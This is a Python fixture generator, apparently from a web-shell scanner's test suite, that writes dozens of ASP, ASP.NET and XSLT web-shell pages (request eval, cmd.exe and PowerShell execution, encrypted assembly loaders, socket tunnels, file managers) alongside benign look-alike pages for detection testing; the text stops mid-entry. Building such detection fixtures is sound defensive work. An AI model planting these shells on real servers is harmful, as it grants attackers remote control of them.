#!/usr/bin/env python3
"""mkshells.py: writes exhume's own web-shell and benign-page fixtures.

    mkshells.py shells DIR   web-shell fixtures in DIR/files, DIR/manifest.tsv
    mkshells.py benign DIR   benign pages that share features with shells

Every shell here was written for exhume from the published descriptions of
each family (what the page does: which request accessor feeds which sink),
not copied from any sample; none contains a sample's hash, key or unique
string.  The pages are inert test data: the server code is syntactically
plausible but they are never served.

Each base page is written in variants: UTF-8, UTF-8 with BOM and UTF-16LE
with BOM; under its script extension, under a non-script extension (.txt,
.jpg: server code in a file IIS might be told to run) and as an alternate
data stream ("host.txt@name.aspx", which rulescan -s scans as
host.txt:name.aspx).  manifest.tsv: relpath, family, base, minimum level.
"""
import os
import sys

# ---- web shells, by family --------------------------------------------------
# (family, base name, script extension, minimum level, text)
SHELLS = []


def shell(family, base, ext, text, level="warning"):
    SHELLS.append((family, base, ext, level, text))


# Classic ASP: Eval/Execute/ExecuteGlobal of request data.
shell("asp-eval", "exec-request", ".asp",
      '<%Execute Request("z")%>\r\n')
shell("asp-eval", "eval-form", ".asp",
      '<%\r\nDim r : r = Eval(request.form("expr"))\r\nResponse.Write r\r\n%>\r\n')
shell("asp-eval", "execglobal-item", ".asa",
      '<% ExecuteGlobal ( Request.Item("k") ) %>\r\n')
shell("asp-eval", "execute-decoded", ".cer",
      '<%\r\nFunction D(s)\r\n  D = StrReverse(s)\r\nEnd Function\r\n'
      'Execute(D(Request.Cookies("sid")))\r\n%>\r\n')
shell("asp-eval", "execute-variable", ".cdx",
      '<%\r\ncode = Request.QueryString("q")\r\nIf code <> "" Then\r\n'
      '  Execute code\r\nEnd If\r\n%>\r\n')
shell("asp-eval", "script-runat", ".asp",
      '<script language="VBScript" runat="server">\r\n'
      'EXECUTE   request ( "p" )\r\n</script>\r\n')
shell("asp-eval", "jscript-eval", ".asp",
      '<%@ Language="JScript" %>\r\n<% eval(Request.Form("a").Item + ""); %>\r\n')

# Classic ASP: WScript.Shell / Shell.Application command execution.
shell("asp-wsh", "exec-stdout", ".asp",
      '<%\r\nSet sh = Server.CreateObject("WScript.Shell")\r\n'
      'Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))\r\n'
      'Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll) & "</pre>"\r\n%>\r\n'
      '<form method="post"><input name="c"><input type="submit"></form>\r\n')
shell("asp-wsh", "run-comspec", ".asp",
      '<%\r\nDim o, f\r\nSet o = CreateObject("WScript" & ".Shell")\r\n'
      'o.Run "%ComSpec% /c " & Request("x") & " > c:\\windows\\temp\\o.txt", 0, True\r\n%>\r\n')
shell("asp-wsh", "shellexecute", ".asa",
      '<%\r\nSet a = Server.CreateObject("Shell.Application")\r\n'
      'a.ShellExecute Request.QueryString("f"), Request.QueryString("p"), "", "open", 0\r\n%>\r\n')
shell("asp-wsh", "classid-object", ".asp",
      '<object runat="server" id="ws" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\r\n'
      '<%\r\nSet r = ws.Exec(Request.Item("cmd"))\r\nResponse.Write r.StdOut.ReadAll()\r\n%>\r\n')

# Classic ASP: FileSystemObject file manager.
shell("asp-fso-manager", "manager", ".asp",
      '<%\r\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\r\n'
      'Set d = fs.GetFolder(Request("path"))\r\n'
      'For Each s In d.SubFolders : Response.Write s.Name & "<br>" : Next\r\n'
      'For Each f In d.Files : Response.Write f.Name & " " & f.Size & "<br>" : Next\r\n'
      'For Each v In fs.Drives : Response.Write v.DriveLetter & " " & v.DriveType : Next\r\n'
      'If Request("del") <> "" Then fs.DeleteFile Request("del"), True\r\n'
      'If Request("mv") <> "" Then fs.MoveFile Request("mv"), Request("to")\r\n'
      'If Request("new") <> "" Then\r\n  Set t = fs.CreateTextFile(Request("new"), True)\r\n'
      '  t.Write Request("body") : t.Close\r\nEnd If\r\n'
      'If Request("run") <> "" Then CreateObject("WScript.Shell").Run Request("run"), 0\r\n%>\r\n')
shell("asp-fso-manager", "manager-db", ".asp",
      '<%\r\nSet fso = CreateObject("Scripting.FileSystemObject")\r\n'
      'p = Request.Form("p")\r\nIf fso.FolderExists(Request.Form("p")) Then\r\n'
      '  For Each x In fso.GetFolder(p).Files : Response.Write x.Path & vbCrLf : Next\r\nEnd If\r\n'
      'fso.CopyFile Request.Form("src"), Request.Form("dst")\r\n'
      'fso.DeleteFolder Request.Form("rd")\r\n'
      'Set cn = Server.CreateObject("ADODB.Connection")\r\ncn.Open Request.Form("dsn")\r\n'
      'Set st = Server.CreateObject("ADODB.Stream")\r\nst.Type = 1 : st.Open\r\n'
      'st.Write Request.BinaryRead(Request.TotalBytes)\r\nst.SaveToFile Request.Form("to"), 2\r\n%>\r\n')

# Classic ASP: writers and ADODB.Stream uploaders.
shell("asp-writer", "createtextfile", ".asp",
      '<%\r\nSet f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath(Request("n")), True)\r\n'
      'f.Write Request("d")\r\nf.Close\r\n%>\r\n')
shell("asp-writer", "opentextfile", ".asp",
      '<%\r\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\r\n'
      'Set ts = fso.OpenTextFile( Request.Form("file"), 2, True)\r\nts.Write Request.Form("text")\r\nts.Close\r\n%>\r\n')
shell("asp-uploader", "stream-save", ".asp",
      '<%\r\nDim b, s\r\nb = Request.BinaryRead(Request.TotalBytes)\r\n'
      'Set s = Server.CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write b\r\n'
      's.SaveToFile Server.MapPath("/") & "\\" & Request.QueryString("n"), 2\r\ns.Close\r\n%>\r\n')
shell("asp-uploader", "stream-save-direct", ".asp",
      '<%\r\nSet s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open\r\n'
      's.Write Request.BinaryRead(Request.TotalBytes)\r\ns.SaveToFile Request("to"), 2\r\n%>\r\n')

# ASP.NET: JScript eval of request data (Chopper family), any accessor.
for i, (acc, flag) in enumerate([
        ('Request.Item["z"]', '"unsafe"'),
        ('Request.Item(0)', None),
        ('Request.Headers["X-Data"]', '"un"+"safe"'),
        ('Request.Cookies["c"].Value', None),
        ('Request . Form [ "p" ]', "'un' + 'safe'"),
        ('System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.QueryString["d"]))',
         '"unsafe"')]):
    call = "eval(%s%s)" % (acc, ", " + flag if flag else "")
    shell("aspx-eval", "eval-%d" % i, ".aspx",
          '<%@ Page Language="Jscript" Debug="false" %>\r\n<% ' + call + '; %>\r\n')
shell("aspx-eval", "eval-variable", ".aspx",
      '<%@ Page Language = "JScript" %>\r\n<script runat="server">\r\n'
      'function Page_Load() {\r\n  var t = Request.Form["t"];\r\n  if (t) Response.Write(eval(t, "un" + "safe"));\r\n}\r\n</script>\r\n')
shell("aspx-eval", "eval-handler", ".ashx",
      '<%@ WebHandler Language="JScript" Class="H" %>\r\nimport System.Web;\r\n'
      'class H implements IHttpHandler {\r\n  function ProcessRequest(c : HttpContext) {\r\n'
      '    c.Response.Write(eval(c.Request.Params["v"]));\r\n  }\r\n'
      '  function get IsReusable() : Boolean { return false; }\r\n}\r\n')

# ASP.NET: processes started with request data.
shell("aspx-process", "psi-cmd", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Diagnostics" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  var p = new ProcessStartInfo();\r\n  p.FileName = "cmd.exe";\r\n'
      '  p.Arguments = "/c " + Request.Form["cmd"];\r\n  p.UseShellExecute = false;\r\n'
      '  p.RedirectStandardOutput = true;\r\n  var x = Process.Start(p);\r\n'
      '  Response.Write(Server.HtmlEncode(x.StandardOutput.ReadToEnd()));\r\n}\r\n</script>\r\n')
shell("aspx-process", "vb-start", ".aspx",
      '<%@ Page Language="VB" %>\r\n<script runat="server">\r\n'
      'Sub Page_Load()\r\n  System.Diagnostics.Process.Start("cmd.exe", "/c " & Request.QueryString("c"))\r\nEnd Sub\r\n</script>\r\n')
shell("aspx-process", "powershell-var", ".aspx",
      '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nprotected void Page_Load(object s, EventArgs e) {\r\n'
      '  string a = Request.Headers["X-Cmd"];\r\n  if (a == null) return;\r\n'
      '  var i = new System.Diagnostics.ProcessStartInfo("power" + "shell.exe", "-nop -c " + a);\r\n'
      '  i.RedirectStandardOutput = true; i.UseShellExecute = false;\r\n'
      '  using (var pr = System.Diagnostics.Process.Start(i)) Response.Write(pr.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n')
shell("aspx-process", "start-item", ".aspx",
      '<%@ Page Language="C#" %><% System.Diagnostics.Process . Start ( Request.Item["f"], Request.Item["a"] ); %>\r\n')

# ASP.NET: in-memory assembly loaders (Behinder/Godzilla style).
shell("aspx-assembly-load", "decrypt-body", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Reflection" %>\r\n'
      '<script runat="server">\r\nbyte[] Dec(byte[] d, string k) {\r\n'
      '  var r = new System.Security.Cryptography.RijndaelManaged();\r\n'
      '  var t = r.CreateDecryptor(System.Text.Encoding.Default.GetBytes(k), System.Text.Encoding.Default.GetBytes(k));\r\n'
      '  return t.TransformFinalBlock(d, 0, d.Length);\r\n}\r\n</script>\r\n'
      '<% Session["k"] = "0123456789abcdef";\r\n'
      'byte[] c = Request.BinaryRead(Request.ContentLength);\r\n'
      'Assembly.Load(Dec(c, (string)Session["k"])).CreateInstance("P").Equals(this); %>\r\n')
shell("aspx-assembly-load", "base64-session", ".aspx",
      '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object o, EventArgs e) {\r\n'
      '  byte[] d = System.Convert.FromBase64String(Request.Form["pass"]);\r\n'
      '  for (int i = 0; i < d.Length; i++) d[i] ^= 0x5a;\r\n'
      '  if (Session["m"] == null) { Session["m"] = System.Reflection.Assembly.Load(d); return; }\r\n'
      '  object x = ((System.Reflection.Assembly)Session["m"]).CreateInstance("L");\r\n'
      '  x.Equals(Context); x.Equals(d);\r\n}\r\n</script>\r\n')
shell("aspx-assembly-load", "appdomain-direct", ".ashx",
      '<%@ WebHandler Language="C#" Class="Q" %>\r\nusing System.Web;\r\n'
      'public class Q : IHttpHandler {\r\n  public void ProcessRequest(HttpContext c) {\r\n'
      '    System.AppDomain.CurrentDomain.Load(System.Convert.FromBase64String(c.Request.Form["a"]))'
      '.CreateInstance("A").Equals(c);\r\n  }\r\n  public bool IsReusable { get { return false; } }\r\n}\r\n')

# ASP.NET: run-time compilers fed by the request.
shell("aspx-codedom", "csharp-provider", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.CodeDom.Compiler" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  var cp = new Microsoft.CSharp.CSharpCodeProvider();\r\n'
      '  var ps = new CompilerParameters(); ps.GenerateInMemory = true;\r\n'
      '  var r = cp.CompileAssemblyFromSource(ps, Request.Form["src"]);\r\n'
      '  r.CompiledAssembly.CreateInstance("X");\r\n}\r\n</script>\r\n')
shell("aspx-codedom", "create-provider", ".aspx",
      '<%@ Page Language="VB" %>\r\n<script runat="server">\r\nSub Page_Load()\r\n'
      '  Dim p = System.CodeDom.Compiler.CodeDomProvider.CreateProvider("VisualBasic")\r\n'
      '  Dim o As New System.CodeDom.Compiler.CompilerParameters()\r\n'
      '  Dim src As String = Request.Item("s")\r\n'
      '  p.CompileAssemblyFromSource(o, src).CompiledAssembly.CreateInstance("Y")\r\nEnd Sub\r\n</script>\r\n')

# ASP.NET: reGeorg-like socket tunnels.
shell("aspx-tunnel", "query-verbs", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Net.Sockets" %>\r\n<%@ Import Namespace="System.Net" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  string c = Request.QueryString["cmd"];\r\n'
      '  if (c == "CONNECT") {\r\n    var k = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\r\n'
      '    k.Connect(new IPEndPoint(IPAddress.Parse(Request.QueryString["target"]), int.Parse(Request.QueryString["port"])));\r\n'
      '    Session["s"] = k;\r\n  } else if (c == "DISCONNECT") {\r\n    ((Socket)Session["s"]).Close();\r\n'
      '  } else if (c == "FORWARD") {\r\n    byte[] b = Request.BinaryRead(Request.ContentLength);\r\n'
      '    ((Socket)Session["s"]).Send(b);\r\n  } else if (c == "READ") {\r\n'
      '    byte[] r = new byte[4096]; int n = ((Socket)Session["s"]).Receive(r);\r\n'
      '    Response.BinaryWrite(r);\r\n  }\r\n}\r\n</script>\r\n')
shell("aspx-tunnel", "headers", ".aspx",
      '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  string cmd = Request.Headers.Get("X-Op");\r\n'
      '  var t = new System.Net.Sockets.TcpClient();\r\n'
      '  if (cmd == "open") { t.Connect(Request.Headers["X-Host"], 3389); Application["t"] = t; }\r\n'
      '  var ns = ((System.Net.Sockets.TcpClient)Application["t"]).GetStream();\r\n'
      '  var buf = new byte[Request.ContentLength]; Request.InputStream.Read(buf, 0, buf.Length);\r\n'
      '  ns.Write(buf, 0, buf.Length);\r\n  Response.AddHeader("X-Res", "OK");\r\n}\r\n</script>\r\n')

# XSLT loaders.
shell("xslt-loader", "enable-script", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Xml.Xsl" %>\r\n<%@ Import Namespace="System.Xml" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  var x = new XslCompiledTransform();\r\n'
      '  x.Load(XmlReader.Create(new System.IO.StringReader(Request.Form["x"])), new XsltSettings(true, true), null);\r\n'
      '  x.Transform(XmlReader.Create(new System.IO.StringReader("<a/>")), null, Response.Output);\r\n}\r\n</script>\r\n')
shell("xslt-loader", "msxsl-process", ".xslt",
      '<?xml version="1.0"?>\r\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
      ' xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u">\r\n'
      '<msxsl:script language="C#" implements-prefix="u"><![CDATA[\r\n'
      'public string r(string c) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c);'
      ' return ""; }\r\n]]></msxsl:script>\r\n'
      '<xsl:template match="/"><xsl:value-of select="u:r(string(/x))"/></xsl:template>\r\n</xsl:stylesheet>\r\n')

# ASP.NET: all-in-one file managers (ASPXSpy/WSO-like feature set).
shell("aspx-filemanager", "spy-like", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.IO" %>\r\n<%@ Import Namespace="Microsoft.Win32" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  string p = Request["p"] ?? Server.MapPath(".");\r\n'
      '  foreach (var d in DriveInfo.GetDrives()) Response.Write(d.Name);\r\n'
      '  foreach (var d in Directory.GetDirectories(p)) Response.Write(d);\r\n'
      '  foreach (var f in Directory.GetFiles(p)) Response.Write(f);\r\n'
      '  if (Request["del"] != null) File.Delete(Request["del"]);\r\n'
      '  if (Request["mv"] != null) File.Move(Request["mv"], Request["to"]);\r\n'
      '  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(p, Path.GetFileName(Request.Files[0].FileName)));\r\n'
      '  if (Request["ts"] != null) File.SetLastWriteTime(Request["ts"], File.GetLastWriteTime(Request["ref"]));\r\n'
      '  if (Request["k"] != null) Response.Write(Registry.LocalMachine.OpenSubKey(Request["k"]));\r\n'
      '  if (Request["c"] != null) {\r\n    var i = new System.Diagnostics.ProcessStartInfo("c" + "md.exe");\r\n'
      '    i.Arguments = "/c " + Request["c"]; System.Diagnostics.Process.Start(i);\r\n  }\r\n}\r\n</script>\r\n')
shell("aspx-filemanager", "wso-like-vb", ".aspx",
      '<%@ Page Language="VB" %>\r\n<%@ Import Namespace="System.IO" %>\r\n<script runat="server">\r\n'
      'Sub Page_Load()\r\n  Dim dir As String = Request.Form("dir")\r\n'
      '  For Each x As String In Environment.GetLogicalDrives() : Response.Write(x) : Next\r\n'
      '  For Each f As FileInfo In New DirectoryInfo(dir).GetFiles() : Response.Write(f.Name) : Next\r\n'
      '  If Request.Form("rm") <> "" Then Directory.Delete(Request.Form("rm"), True)\r\n'
      '  If Request.Form("sql") <> "" Then\r\n    Dim cn As New System.Data.SqlClient.SqlConnection(Request.Form("cs"))\r\n'
      '  End If\r\n  For Each pr In System.Diagnostics.Process.GetProcesses() : Response.Write(pr.ProcessName) : Next\r\n'
      '  If Not upl.PostedFile Is Nothing Then upl.PostedFile.SaveAs(dir & "\\" & upl.PostedFile.FileName)\r\nEnd Sub\r\n'
      '</script>\r\n<form runat="server"><input type="file" id="upl" runat="server"/></form>\r\n')

# SQL consoles and writers.
shell("aspx-sql", "console", ".aspx",
      '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Data.SqlClient" %>\r\n'
      '<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  using (var c = new SqlConnection(Request.Form["cs"])) {\r\n    c.Open();\r\n'
      '    var r = new SqlCommand(Request.Form["q"], c).ExecuteReader();\r\n'
      '    while (r.Read()) Response.Write(r[0] + "<br>");\r\n  }\r\n}\r\n</script>\r\n')
shell("aspx-sql", "asp-console", ".asp",
      '<%\r\nSet cn = Server.CreateObject("ADODB.Connection")\r\ncn.Open Request("dsn")\r\n'
      'Set rs = cn.Execute(Request("sql"))\r\nDo Until rs.EOF : Response.Write rs(0) & "<br>" : rs.MoveNext : Loop\r\n%>\r\n')
shell("aspx-writer", "writealltext", ".aspx",
      '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["c"]); %>\r\n')
shell("aspx-writer", "filestream", ".aspx",
      '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
      '  using (var f = new System.IO.FileStream(Server.MapPath(Request.QueryString["n"]), System.IO.FileMode.Create))\r\n'
      '    Request.InputStream.CopyTo(f);\r\n}\r\n</script>\r\n')

# VBScript.Encode pages: the marker alone is a weak signal (notice); the
# decoded text is for the decoder to expose.  The body is not a real
# encoding of anything.
shell("asp-encoded", "vbscript-encode", ".asp",
      '<%@ Language="VBScript.Encode" %>\r\n<%#@~^HAAAAA==@#@&7+D~r@#@&Ux(+PUA/D\x7fwMAAA==^#~@%>\r\n',
      level="notice")

# ---- benign pages -----------------------------------------------------------
BENIGN = {
    "admin-iisreset.aspx":
    '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Diagnostics" %>\r\n'
    '<script runat="server">\r\n// Admin tool: restarts IIS or shows its status; fixed arguments only.\r\n'
    'void Page_Load(object s, EventArgs e) {\r\n  if (!User.IsInRole("Administrators")) { Response.StatusCode = 403; return; }\r\n'
    '  string action = Request.QueryString["action"] == "restart" ? "/restart" : "/status";\r\n'
    '  var psi = new ProcessStartInfo("iisreset.exe", action);\r\n  psi.UseShellExecute = false;\r\n'
    '  psi.RedirectStandardOutput = true;\r\n  using (var p = Process.Start(psi))\r\n'
    '    Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n'
    '<asp:Literal id="Output" runat="server"/>\r\n',
    "plugins.aspx":
    '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.Reflection" %>\r\n'
    '<script runat="server">\r\n// Plugin loader: loads a plugin DLL from ~/bin/plugins by a listed name.\r\n'
    'void Page_Load(object s, EventArgs e) {\r\n  string name = Request.QueryString["plugin"];\r\n'
    '  if (!System.Text.RegularExpressions.Regex.IsMatch(name ?? "", "^[A-Za-z0-9]+$")) return;\r\n'
    '  byte[] raw = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/plugins/" + name + ".dll"));\r\n'
    '  var asm = Assembly.Load(raw);\r\n  var plugin = asm.CreateInstance(name + ".Plugin");\r\n'
    '  PluginName.Text = plugin.ToString();\r\n}\r\n</script>\r\n<asp:Label id="PluginName" runat="server"/>\r\n',
    "upload.aspx":
    '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Upload_Click(object s, EventArgs e) {\r\n'
    '  if (!FileUpload1.HasFile) return;\r\n  string name = System.IO.Path.GetFileName(FileUpload1.FileName);\r\n'
    '  FileUpload1.SaveAs(Server.MapPath("~/App_Data/uploads/") + Guid.NewGuid() + "_" + name);\r\n'
    '  Status.Text = "Uploaded " + Server.HtmlEncode(name);\r\n}\r\n</script>\r\n'
    '<form runat="server"><asp:FileUpload id="FileUpload1" runat="server"/>'
    '<asp:Button runat="server" OnClick="Upload_Click" Text="Upload"/><asp:Label id="Status" runat="server"/></form>\r\n',
    "upload-handler.ashx":
    '<%@ WebHandler Language="C#" Class="UploadHandler" %>\r\nusing System.Web;\r\nusing System.IO;\r\n'
    'public class UploadHandler : IHttpHandler {\r\n  public void ProcessRequest(HttpContext c) {\r\n'
    '    for (int i = 0; i < c.Request.Files.Count; i++) {\r\n      var f = c.Request.Files[i];\r\n'
    '      f.SaveAs(Path.Combine(c.Server.MapPath("~/uploads"), Path.GetFileName(f.FileName)));\r\n    }\r\n'
    '    c.Response.Write("{\\"ok\\":true}");\r\n  }\r\n  public bool IsReusable { get { return true; } }\r\n}\r\n',
    "filemanager.aspx":
    '<%@ Page Language="C#" %>\r\n<%@ Import Namespace="System.IO" %>\r\n<script runat="server">\r\n'
    '// CMS media manager: lists, uploads and deletes under ~/media only.\r\n'
    'string Root { get { return Server.MapPath("~/media"); } }\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
    '  string sub = Path.GetFileName(Request.QueryString["folder"] ?? "");\r\n  string dir = Path.Combine(Root, sub);\r\n'
    '  Folders.DataSource = Directory.GetDirectories(dir); Folders.DataBind();\r\n'
    '  Files.DataSource = Directory.GetFiles(dir); Files.DataBind();\r\n'
    '  if (Request.Form["delete"] != null) File.Delete(Path.Combine(dir, Path.GetFileName(Request.Form["delete"])));\r\n'
    '  if (Upload.HasFile) Upload.SaveAs(Path.Combine(dir, Path.GetFileName(Upload.FileName)));\r\n}\r\n</script>\r\n'
    '<form runat="server"><asp:Repeater id="Folders" runat="server"/><asp:Repeater id="Files" runat="server"/>'
    '<asp:FileUpload id="Upload" runat="server"/></form>\r\n',
    "logon.aspx":
    '<%@ Page Language="C#" AutoEventWireup="true" %>\r\n<!DOCTYPE html>\r\n<html><head><title>Outlook</title>\r\n'
    '<script type="text/javascript">\r\nfunction clkLgn() { var f = document.forms[0]; f.submit(); }\r\n'
    'var cfg = eval("(" + document.getElementById("cfg").value + ")");\r\n'
    'var rdr = \'<%= Server.HtmlEncode(Request.QueryString["url"] ?? "") %>\';\r\n</script></head>\r\n'
    '<body><form action="/owa/auth.owa" method="POST"><input type="hidden" id="cfg" value="{}"/>\r\n'
    '<input name="destination" value="<%= Server.HtmlEncode(Request.QueryString["url"]) %>"/>\r\n'
    '<input name="username"/><input type="password" name="password"/>'
    '<input type="submit" onclick="clkLgn()"/></form></body></html>\r\n',
    "grid.aspx":
    '<%@ Page Language="C#" %>\r\n<form runat="server"><asp:GridView id="G" runat="server"><Columns>\r\n'
    '<asp:TemplateField><ItemTemplate><%# Eval("RequestId") %> - <%# Eval("Request.Title") %>'
    '<a href="<%# Eval("Url") + "?q=" + Server.UrlEncode(Request.QueryString["q"]) %>">link</a></ItemTemplate></asp:TemplateField>\r\n'
    '</Columns></asp:GridView></form>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
    '  var cmd = new System.Data.SqlClient.SqlCommand("SELECT RequestId FROM Requests WHERE Owner = @o");\r\n'
    '  cmd.Parameters.AddWithValue("@o", Request.QueryString["owner"]);\r\n}\r\n</script>\r\n',
    "whois.aspx":
    '<%@ Page Language="C#" %>\r\n<script runat="server">\r\n// Whois lookup: asks a fixed whois server about a domain.\r\n'
    'void Page_Load(object s, EventArgs e) {\r\n  string domain = Request.QueryString["domain"];\r\n'
    '  using (var c = new System.Net.Sockets.TcpClient("whois.iana.org", 43)) {\r\n'
    '    var st = c.GetStream(); var b = System.Text.Encoding.ASCII.GetBytes(domain + "\\r\\n");\r\n'
    '    st.Write(b, 0, b.Length);\r\n    Result.Text = Server.HtmlEncode(new System.IO.StreamReader(st).ReadToEnd());\r\n  }\r\n}\r\n'
    '</script>\r\n<asp:Literal id="Result" runat="server"/>\r\n',
    "report.xslt":
    '<?xml version="1.0"?>\r\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
    ' xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:f="urn:fmt">\r\n'
    '<msxsl:script language="C#" implements-prefix="f"><![CDATA[\r\n'
    'public string Date(string s) { return System.DateTime.Parse(s).ToString("yyyy-MM-dd"); }\r\n]]></msxsl:script>\r\n'
    '<xsl:template match="/"><xsl:value-of select="f:Date(string(/r/@d))"/></xsl:template>\r\n</xsl:stylesheet>\r\n',
    "render.aspx":
    '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
    '  var x = new System.Xml.Xsl.XslCompiledTransform();\r\n  x.Load(Server.MapPath("~/App_Data/report.xslt"));\r\n'
    '  x.Transform(Server.MapPath("~/App_Data/" + System.IO.Path.GetFileName(Request.QueryString["r"]) + ".xml"), null, Response.Output);\r\n}\r\n</script>\r\n',
    "report.asp":
    '<%\r\n\' Classic ASP report page: ADO query with a request value (legacy, injection-prone).\r\n'
    'Set conn = Server.CreateObject("ADODB.Connection")\r\nconn.Open Application("ConnStr")\r\n'
    'Set rs = conn.Execute("SELECT * FROM Orders WHERE Id = " & CLng(Request("id")))\r\n'
    'Do Until rs.EOF\r\n  Response.Write Server.HTMLEncode(rs("Name")) & "<br>"\r\n  rs.MoveNext\r\nLoop\r\n'
    'Server.Execute(Request.QueryString("footer") & ".asp")\r\n%>\r\n',
    "admin-files.asp":
    '<%\r\n\' Classic ASP admin page: lists the upload folder and deletes one file by name.\r\n'
    'Set fso = Server.CreateObject("Scripting.FileSystemObject")\r\nroot = Server.MapPath("/uploads")\r\n'
    'Set folder = fso.GetFolder(root)\r\nFor Each f In folder.Files\r\n'
    '  Response.Write Server.HTMLEncode(f.Name) & " " & f.Size & "<br>"\r\nNext\r\n'
    'If Request.Form("del") <> "" Then\r\n  name = Replace(Replace(Request.Form("del"), "\\", ""), "/", "")\r\n'
    '  If fso.FileExists(root & "\\" & name) Then fso.DeleteFile root & "\\" & name\r\nEnd If\r\n'
    'Set log = fso.OpenTextFile(Server.MapPath("/logs/admin.log"), 8, True)\r\n'
    'log.WriteLine Now & " " & Request.ServerVariables("REMOTE_ADDR")\r\nlog.Close\r\n%>\r\n',
    "config.asp":
    '<%\r\n\' Reads the site root from the registry.\r\nSet sh = Server.CreateObject("WScript.Shell")\r\n'
    'root = sh.RegRead("HKLM\\SOFTWARE\\Example\\Site\\Root")\r\n'
    'If Request.QueryString("rebuild") = "1" Then sh.Run "C:\\Example\\rebuild.bat", 0, True\r\n%>\r\n',
    "upload-class.asp":
    '<%\r\n\' Pure-ASP upload class (multipart parser) used by the site\'s forms.\r\n'
    'Class FileUploader\r\n  Public Files\r\n  Private Sub Class_Initialize : Set Files = Server.CreateObject("Scripting.Dictionary") : End Sub\r\n'
    '  Public Sub Upload()\r\n    Dim data : data = Request.BinaryRead(Request.TotalBytes)\r\n'
    '    \' ... split the multipart body at the boundary ...\r\n  End Sub\r\n'
    '  Public Sub SaveToDisk(path, name, bytes)\r\n    Set st = Server.CreateObject("ADODB.Stream")\r\n'
    '    st.Type = 1 : st.Open : st.Write bytes\r\n    st.SaveToFile path & "\\" & name, 2\r\n    st.Close\r\n  End Sub\r\nEnd Class\r\n%>\r\n',
    "download.asp":
    '<%\r\n\' Sends a file from the documents folder.\r\nname = Replace(Request("f"), "..", "")\r\n'
    'Set st = Server.CreateObject("ADODB.Stream")\r\nst.Type = 1 : st.Open\r\n'
    'st.LoadFromFile Server.MapPath("/docs/" & name)\r\nResponse.ContentType = "application/octet-stream"\r\n'
    'Response.BinaryWrite st.Read\r\nst.Close\r\n%>\r\n',
    "include-loader.asp":
    '<%\r\n\' Dynamic include: runs a module file of the framework.\r\n'
    'Sub Include(name)\r\n  Set fso = Server.CreateObject("Scripting.FileSystemObject")\r\n'
    '  code = fso.OpenTextFile(Server.MapPath("/lib/" & name & ".asp")).ReadAll\r\n'
    '  ExecuteGlobal code\r\nEnd Sub\r\nInclude "db"\r\npage = Request.QueryString("page")\r\n%>\r\n',
    "jscript-page.aspx":
    '<%@ Page Language="JScript" %>\r\n<script runat="server">\r\nfunction Page_Load() {\r\n'
    '  var n = Request.QueryString["n"];\r\n  Label1.Text = "Hello " + Server.HtmlEncode(n);\r\n}\r\n</script>\r\n'
    '<asp:Label id="Label1" runat="server"/>\r\n',
    "sql-search.aspx":
    '<%@ Page Language="C#" %>\r\n<script runat="server">\r\nvoid Page_Load(object s, EventArgs e) {\r\n'
    '  using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["db"].ConnectionString)) {\r\n'
    '    var cmd = new System.Data.SqlClient.SqlCommand("SELECT Title FROM Posts WHERE Title LIKE @q", c);\r\n'
    '    cmd.Parameters.AddWithValue("@q", "%" + Request.QueryString["q"] + "%");\r\n'
    '    c.Open(); Results.DataSource = cmd.ExecuteReader(); Results.DataBind();\r\n  }\r\n}\r\n</script>\r\n',
    "backup.aspx":
